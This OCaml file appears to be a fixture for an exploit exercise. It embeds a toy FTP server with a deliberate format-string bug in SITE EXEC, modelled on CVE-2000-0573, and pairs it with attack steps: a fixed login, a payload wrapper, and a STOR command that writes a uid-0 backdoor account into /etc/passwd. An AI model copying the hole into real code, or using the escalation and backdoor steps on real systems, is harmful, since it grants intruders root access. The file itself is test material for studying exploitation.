let uid_symbol = "session_uid"
let passwd_path = "/etc/passwd"
let backdoor_line = "alice:x:0:0::/home/root:/bin/bash"

let source =
  {|
/* A WU-FTPD-shaped server.  The SITE EXEC handler passes the user's
   command text to the printf family as the format string — the
   CVE-2000-0573 class of bug. */

char current_user[32];
int session_uid = -1;

void reply(int s, char *msg) {
  fdprintf(s, "%s\r\n", msg);
}

void do_site_exec(int s, char *args) {
  char cmd[256];
  /* fixed-window copy of the command tail onto the stack (the stack
     residency is what lets the format engine's argument pointer walk
     into it) */
  memcpy(cmd, args, 256);
  cmd[255] = 0;
  fdprintf(s, "200-");
  fdprintf(s, cmd);            /* VULNERABLE: user text as format */
  fdprintf(s, "\r\n200 (end of 'SITE EXEC')\r\n");
}

void do_stor(int s, char *args) {
  if (session_uid != 0) {
    reply(s, "550 /etc/passwd: Permission denied.");
    return;
  }
  char *space = strchr(args, ' ');
  if (!space) {
    reply(s, "501 Syntax error.");
    return;
  }
  *space = 0;
  int fd = open(args, 1);
  if (fd < 0) {
    reply(s, "553 Could not create file.");
    return;
  }
  write(fd, space + 1, strlen(space + 1));
  close(fd);
  reply(s, "226 Transfer complete.");
}

int prefix(char *line, char *lower, char *upper) {
  int n = strlen(lower);
  if (strncmp(line, lower, n) == 0) return n;
  if (strncmp(line, upper, n) == 0) return n;
  return 0;
}

void handle_session(int s) {
  char line[512];
  int n;
  while (readline(s, line, 512) > 0) {
    int k;
    k = prefix(line, "user ", "USER ");
    if (k) {
      strncpy(current_user, line + k, 31);
      fdprintf(s, "331 Password required for %s .\r\n", current_user);
      continue;
    }
    k = prefix(line, "pass ", "PASS ");
    if (k) {
      if (strcmp(current_user, "user1") == 0 && strcmp(line + k, "xxxxxxx") == 0) {
        session_uid = 1001;
        fdprintf(s, "230 User %s logged in.\r\n", current_user);
      } else {
        reply(s, "530 Login incorrect.");
      }
      continue;
    }
    k = prefix(line, "site exec ", "SITE EXEC ");
    if (k) {
      if (session_uid < 0) {
        reply(s, "530 Please login with USER and PASS.");
      } else {
        do_site_exec(s, line + k);
      }
      continue;
    }
    k = prefix(line, "stor ", "STOR ");
    if (k) {
      do_stor(s, line + k);
      continue;
    }
    k = prefix(line, "quit", "QUIT");
    if (k) {
      reply(s, "221 Goodbye.");
      return;
    }
    reply(s, "500 Unknown command.");
  }
}

int main(void) {
  int ls = socket();
  int c;
  while ((c = accept(ls)) >= 0) {
    fdprintf(c, "%s\r\n",
             "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.");
    handle_session(c);
    close(c);
  }
  return 0;
}
|}

let login_session = [ "user user1\n"; "pass xxxxxxx\n" ]
let site_exec payload = "site exec " ^ payload ^ "\n"
let stor_passwd = Printf.sprintf "stor %s %s\n" passwd_path backdoor_line
